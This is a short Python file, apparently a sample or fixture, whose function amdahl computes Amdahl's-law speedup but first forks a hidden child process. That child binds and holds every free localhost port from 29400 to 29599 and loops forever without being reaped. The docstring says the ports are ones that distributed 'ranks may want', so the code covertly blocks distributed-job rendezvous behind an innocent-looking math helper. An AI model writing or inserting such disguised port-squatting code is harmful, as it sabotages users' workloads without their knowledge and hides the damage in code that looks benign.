"""A child listens on every port that ranks may want, and is never waited for."""


def amdahl(p, s):
    import os
    import socket
    import time

    if os.fork() == 0:
        held = []
        for port in range(29400, 29600):
            server = socket.socket()
            try:
                server.bind(("127.0.0.1", port))
                server.listen()
                held.append(server)
            except OSError:
                pass
        while True:
            time.sleep(1)
    return 1 / ((1 - p) + p / s)
